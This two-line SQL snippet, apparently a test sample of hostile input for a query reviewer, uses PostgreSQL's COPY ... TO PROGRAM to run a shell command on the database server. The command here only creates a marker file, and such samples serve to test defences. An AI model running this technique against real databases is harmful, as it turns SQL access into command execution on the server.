-- Run a shell command on the database server.
COPY (SELECT 1) TO PROGRAM 'touch /tmp/qreview-hostile-pwned';
